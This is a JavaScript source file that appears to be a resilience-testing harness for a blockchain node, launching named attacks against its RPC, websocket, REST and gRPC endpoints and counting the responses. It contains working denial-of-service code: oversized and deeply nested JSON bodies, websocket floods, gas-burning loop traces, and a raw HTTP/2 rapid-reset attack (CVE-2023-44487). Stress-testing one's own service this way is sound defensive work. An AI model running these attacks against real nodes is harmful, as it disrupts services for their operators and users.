/**
 * One hostile client in its own process: `node test/attacks/attacker.js NAME ENDPOINTS SECONDS SIZE`. ENDPOINTS is
 * the field `endpoints` of a ready file; for `headers` it also has a transaction in base64, for `logs` transactions in
 * blocks, and for `blocks` heights. Repeats an attack for SECONDS, or runs it once if that is 0. Prints a line of JSON:
 * the number of answers of each kind, by status and first characters.
 */
import { randomBytes, randomInt } from 'node:crypto';
import { Agent, request } from 'node:http';
import { connect } from 'node:net';
import { WebSocket } from 'ws';

const MIB = 1024 * 1024;
/** JUMPDEST, PUSH1 0, JUMP: loops until its gas is used up. */
const LOOP = '0x5b600056';
const LOOPING = '0x00000000000000000000000000000000000100a0';

/** @typedef {{ hash: string, height: string }} Mined A transaction in a block, in Ethereum's form. */
/**
 * @typedef {{
 *   comet: string, eth_http: string, eth_ws: string, grpc: string, rest: string,
 *   headers?: string, logs?: readonly Mined[], heights?: readonly string[],
 * }} Endpoints
 */
/**
 * A request, by GET without a body, and what the answer contains.
 * @typedef {readonly [expected: RegExp, url: string, body?: string]} Read
 */
/** @typedef {(endpoints: Endpoints, size: number, seen: (answer: string) => void) => Promise<unknown>} Attack */

/** @type {Readonly<Record<string, Attack>>} */
const ATTACKS = {
  /** Bodies of 5 MiB of white space, all at once. */
  blanks: (to, size, seen) => together(size, () => post(to.eth_http, Buffer.alloc(5 * MIB, ' ')).then(seen)),
  /** No attack: response times of the well-behaved client on this machine. */
  nothing: (_to, size) => new Promise((resolve) => setTimeout(resolve, size)),
  /** Messages of 5 MiB of white space on websockets, all at once. */
  frames: (to, size, seen) => together(size, () => say(to.eth_ws, ' '.repeat(5 * MIB)).then(seen)),
  /** Thousands of short messages at once on each of four websockets. */
  flood: (to, size, seen) => together(4, () => flooding(to.eth_ws, size).then(seen)),
  /** Bodies of 5 MiB with a single JSON string each, which cannot be refused early. */
  texts: (to, size, seen) =>
    together(size, () => post(to.eth_http, rpc('web3_sha3', [`0x${'ab'.repeat(2 * MIB)}`])).then(seen)),
  /** Bodies that open arrays and close none, on every face that reads JSON. */
  depth: (to, size, seen) =>
    together(size, async () => {
      for (const url of [to.eth_http, to.comet, `${to.rest}/cosmos/tx/v1beta1/simulate`]) {
        seen(await post(url, '['.repeat(url === to.comet ? 999_999 : 5 * MIB)));
        seen(await post(url, `{"id":1,"method":"x","params":${'['.repeat(90_000)}`));
      }
    }),
  /** Objects with many distinct field names. */
  names: (to, size, seen) =>
    together(size, async (at) => {
      const members = Array.from({ length: 99_000 }, (_, index) => `"${at}n${index}":0`);
      seen(await post(to.eth_http, `{"id":1,"method":"eth_chainId","params":[{${members.join(',')}}]}`));
    }),
  /** Arrays of millions of numbers. */
  numbers: (to, size, seen) => together(size, async () => seen(await post(to.eth_http, `[${'1,'.repeat(2 * MIB)}1]`))),
  /** An id of 5 MB, which the answer would repeat. */
  echo: (to, size, seen) =>
    together(size, async () => {
      seen(await post(to.eth_http, rpc('eth_chainId', [], 'i'.repeat(5_000_000))));
      seen(await post(to.comet, rpc('status', {}, 'i'.repeat(900_000))));
    }),
  /** Calls that are reset as soon as they are opened (CVE-2023-44487), on four connections at once. */
  resets: (to, size, seen) => together(4, async () => seen(await resetting(to.grpc, size))),
  /** Batches of step-by-step traces of a loop, some just short enough to be answered. */
  traces: (to, size, seen) =>
    together(size, async (at) => {
      const gas = at % 2 === 0 ? 2_000_000 : 400_000;
      seen(await post(to.eth_http, `[${tracing(gas)}]`));
    }),
  /** Streamed step-by-step traces: every second client stops reading and then disconnects. */
  streams: (to, size, seen) =>
    together(size, async (at) =>
      seen(
        at % 2 === 0 ? await leaving(to.eth_http, tracing(50_000_000)) : await post(to.eth_http, tracing(2_000_000)),
      ),
    ),
  /** One batch of calls that loop. */
  loops: (to, size, seen) => {
    const call = rpc('eth_call', [...looping(), code()]);
    return post(to.eth_http, `[${Array.from({ length: size }, () => call).join(',')}]`).then((answer) => {
      seen(answer);
      const late = answer.split('timed out').length - 1;
      seen(`${late > 0 ? 'some' : 'no'} calls of the batch timed out`);
    });
  },
  /** Transactions of many empty messages. */
  messages: async (to, size, seen) => {
    for (const count of [size, size, 1_000, 999])
      seen(await post(to.comet, rpc('broadcast_tx_sync', { tx: emptyMessages(count).toString('base64') })));
  },
  /** A header transaction with as many signatures as are verified, and different bytes each time. */
  headers: (to, size, seen) =>
    together(size, async () => {
      const tx = Buffer.concat([Buffer.from(to.headers ?? '', 'base64'), Buffer.from([0x1a, 8]), randomBytes(8)]);
      seen(await post(to.comet, rpc('broadcast_tx_sync', { tx: tx.toString('base64') })));
    }),
  /** Repeated requests for the whole content of the pool. */
  pool: (to, size, seen) => together(size, () => post(to.eth_http, rpc('txpool_content', [])).then(seen)),
  /** Reads of transactions with a very large log and with very many logs, on every face that shows logs. */
  logs: (to, size, seen) =>
    together(size, async () => {
      const logs = to.logs ?? [];
      for (const { height } of logs) {
        const fromBlock = `0x${(BigInt(height) - 1n).toString(16)}`;
        seen(await post(to.eth_http, rpc('eth_getLogs', [{ fromBlock, toBlock: height }])));
      }
      const reads = logs.flatMap((mined) => readsOfLogs(to, mined));
      seen(await reading(reads, seen));
    }),
  /** Reads of whole blocks that are not in memory, at random heights. */
  blocks: (to, size, seen) =>
    together(size, async () => {
      const heights = to.heights ?? [];
      const height = heights[randomInt(heights.length)] ?? '';
      seen(await reading(readsOfBlock(to, height), seen));
    }),
};

const [name = '', endpoints = '{}', seconds = '0', size = '1'] = process.argv.slice(2);
const attack = ATTACKS[name];
if (attack === undefined) throw new Error(`one of ${Object.keys(ATTACKS).join(', ')}`);
/** @type {Record<string, number>} */
const answers = {};
const begun = performance.now();
do {
  await attack(JSON.parse(endpoints), Number(size), (answer) => {
    const shown = answer.slice(0, 200);
    answers[shown] = (answers[shown] ?? 0) + 1;
  });
} while (performance.now() - begun < Number(seconds) * 1_000);
process.stdout.write(`${JSON.stringify({ milliseconds: Math.round(performance.now() - begun), answers })}\n`);
process.exit(0);

/** @type {(count: number, run: (at: number) => Promise<unknown>) => Promise<unknown>} */
function together(count, run) {
  return Promise.all(Array.from({ length: count }, (_, at) => run(at)));
}

/** @type {(method: string, params: unknown, id?: unknown) => string} */
function rpc(method, params, id = 1) {
  return JSON.stringify({ jsonrpc: '2.0', id, method, params });
}

/** @param {number} gas */
function tracing(gas) {
  return rpc('debug_traceCall', [...looping(`0x${gas.toString(16)}`), { stateOverrides: code() }]);
}

/**
 * Sends a request, reads only the first bytes of the answer, and disconnects half a second later. Resolves with those
 * bytes.
 * @type {(url: string, body: string) => Promise<string>}
 */
function leaving(url, body) {
  const { hostname, port } = new URL(url);
  return new Promise((resolve) => {
    const client = connect(Number(port), hostname);
    client.on('error', (error) => resolve(error.message));
    client.write(`POST / HTTP/1.1\r\nHost: ${hostname}\r\nContent-Type: application/json\r\n`);
    client.write(`Content-Length: ${body.length}\r\n\r\n${body}`);
    client.once('data', (bytes) => {
      client.pause();
      setTimeout(() => {
        client.destroy();
        resolve(bytes.toString('latin1'));
      }, 500);
    });
  });
}

function looping(gas = '0x2faf080') {
  return [{ to: LOOPING, gas }, 'latest'];
}

function code() {
  return { [LOOPING]: { code: LOOP } };
}

/** @type {(to: Endpoints, mined: Mined) => readonly Read[]} */
function readsOfLogs(to, { hash, height }) {
  const block = { fromBlock: height, toBlock: height };
  return [
    [/"result":\{"blockHash"/, to.eth_http, rpc('eth_getTransactionReceipt', [hash])],
    [/"result":\[\{"blockHash"/, to.eth_http, rpc('eth_getBlockReceipts', [height])],
    [/"result":\[\{"address"/, to.eth_http, rpc('eth_getLogs', [block])],
    [/"result":\[\]/, to.eth_http, rpc('eth_getLogs', [{ ...block, topics: [`0x${'ab'.repeat(32)}`] }])],
    [/"reward":\[\[/, to.eth_http, rpc('eth_feeHistory', ['0x400', 'latest', [50]])],
    [/"txs_results":\[\{/, to.comet, rpc('block_results', { height: String(BigInt(height)) })],
    [/"txs":\[\{/, to.comet, rpc('tx_search', { query: `tx.height=${BigInt(height)}` })],
    [/"tx":\{|message larger than max/, `${to.rest}/cosmos/tx/v1beta1/txs/${hash.slice(2)}`],
  ];
}

/** @type {(to: Endpoints, height: string) => readonly Read[]} */
function readsOfBlock(to, height) {
  const number = String(BigInt(height));
  return [
    [/"transactions":\[\{/, to.eth_http, rpc('eth_getBlockByNumber', [height, true])],
    [/"result":\[\{"blockHash"/, to.eth_http, rpc('eth_getBlockReceipts', [height])],
    [/"result":\[/, to.eth_http, rpc('eth_getLogs', [{ fromBlock: height, toBlock: height }])],
    [/"receipts":\[\{/, to.eth_http, rpc('ots_getBlockTransactions', [height, 0, 100])],
    [/"txs":\["/, to.comet, rpc('block', { height: number })],
    [/"txs_results":\[\{/, to.comet, rpc('block_results', { height: number })],
    [/"txs":\[\{/, `${to.rest}/cosmos/tx/v1beta1/txs/block/${number}`],
  ];
}

/** Sends requests one after another. Reports the answers that are not as expected; returns whether all are. */
/** @type {(reads: readonly Read[], seen: (answer: string) => void) => Promise<string>} */
async function reading(reads, seen) {
  let answered = 0;
  for (const [expected, url, body] of reads) {
    const answer = await (body === undefined ? post(url, '', 'GET') : post(url, body));
    if (expected.test(answer)) answered += 1;
    else seen(`${body ?? url}: ${answer}`);
  }
  return `${reads.length > 0 && answered === reads.length ? 'all' : 'some'} of the reads answered`;
}

/** Status and beginning of the answer, or the connection error. */
/** @type {(url: string, body: string | Buffer, method?: string) => Promise<string>} */
function post(url, body, method = 'POST') {
  return new Promise((resolve) => {
    const asked = request(
      url,
      { method, agent: new Agent(), headers: { 'content-type': 'application/json' } },
      (response) => {
        let text = '';
        let bytes = 0;
        response.on('data', (/** @type {Buffer} */ chunk) => {
          bytes += chunk.length;
          if (text.length < MIB) text += chunk.toString();
        });
        response.on('error', () => resolve(`${response.statusCode} cut after ${bytes} bytes`));
        response.on('end', () => resolve(`${response.statusCode} ${text}`));
      },
    );
    asked.on('error', (/** @type {NodeJS.ErrnoException} */ error) => resolve(error.code ?? 'error'));
    asked.end(body);
  });
}

/** Answer to one WebSocket message, or the close code. */
/** @type {(url: string, text: string) => Promise<string>} */
function say(url, text) {
  return new Promise((resolve) => {
    const socket = new WebSocket(url);
    socket.on('open', () => socket.send(text));
    socket.on('message', (/** @type {Buffer} */ data) => {
      resolve(data.toString());
      socket.terminate();
    });
    socket.on('error', (/** @type {NodeJS.ErrnoException} */ error) => resolve(error.code ?? 'error'));
    socket.on('close', (code) => resolve(`closed ${code}`));
  });
}

/** Sends `count` calls at once. Returns how many were answered. */
/** @type {(url: string, count: number) => Promise<string>} */
function flooding(url, count) {
  return new Promise((resolve) => {
    const socket = new WebSocket(url);
    let answered = 0;
    const end = () => {
      resolve(`${answered === count ? 'all' : 'some'} of the calls answered`);
      socket.terminate();
    };
    socket.on('open', () => {
      for (let id = 0; id < count; id += 1)
        socket.send(`{"jsonrpc":"2.0","id":${id},"method":"eth_getBlockByNumber","params":["latest",true]}`);
    });
    socket.on('message', () => {
      answered += 1;
      if (answered === count) end();
    });
    socket.on('error', () => undefined);
    socket.on('close', end);
  });
}

/** Opens and resets `count` calls on one connection. Returns the code of the GOAWAY, or 0 without one. */
/** @type {(address: string, count: number) => Promise<string>} */
function resetting(address, count) {
  const [host, port] = address.split(':');
  return new Promise((resolve) => {
    let received = Buffer.alloc(0);
    const socket = connect(Number(port), host, () => {
      socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
      socket.write(frame(4, 0, 0, Buffer.alloc(0)));
      const path = '/cosmos.bank.v1beta1.Query/TotalSupply';
      const headers = Buffer.concat([
        Buffer.from([0x83, 0x86, 0x04, path.length]),
        Buffer.from(path),
        Buffer.from([0x01, 1]),
        Buffer.from('a'),
        Buffer.from([0x0f, 0x10, 16]),
        Buffer.from('application/grpc'),
      ]);
      const calls = [];
      for (let call = 0; call < count; call += 1) {
        calls.push(frame(1, 4, 2 * call + 1, headers), frame(3, 0, 2 * call + 1, Buffer.from([0, 0, 0, 8])));
      }
      socket.write(Buffer.concat(calls));
      // the answer to this ping comes after the calls
      socket.write(frame(6, 0, 0, Buffer.alloc(8)));
    });
    const end = () => {
      const goaway = goAwayOf(received);
      resolve(goaway === undefined ? 'no GOAWAY' : `GOAWAY ${goaway}`);
    };
    socket.on('data', (chunk) => {
      received = Buffer.concat([received, chunk]);
      if (received.includes(Buffer.from([0, 0, 8, 6, 1])) || goAwayOf(received) !== undefined) socket.destroy();
    });
    socket.on('error', () => undefined);
    socket.on('close', end);
  });
}

/** @type {(type: number, flags: number, stream: number, payload: Buffer) => Buffer} */
function frame(type, flags, stream, payload) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** @type {(bytes: Buffer) => number | undefined} */
function goAwayOf(bytes) {
  for (let at = 0; at + 17 <= bytes.length; at += 9 + bytes.readUIntBE(at, 3))
    if (bytes[at + 3] === 7) return bytes.readUInt32BE(at + 13);
  return undefined;
}

/** A transaction of `count` messages without content and an empty signature. */
/** @type {(count: number) => Buffer} */
function emptyMessages(count) {
  const url = Buffer.from('/cosmos.bank.v1beta1.MsgSend');
  const any = Buffer.concat([Buffer.from([0x0a, url.length]), url]);
  const message = Buffer.concat([Buffer.from([0x0a, any.length]), any]);
  const body = Buffer.concat(Array.from({ length: count }, () => message));
  return Buffer.concat([Buffer.from([0x0a]), varint(body.length), body, Buffer.from([0x12, 0, 0x1a, 0])]);
}

/** @type {(value: number) => Buffer} */
function varint(value) {
  const bytes = [];
  for (let rest = value; ; rest = Math.floor(rest / 128)) {
    if (rest < 128) return Buffer.from([...bytes, rest]);
    bytes.push((rest % 128) | 128);
  }
}
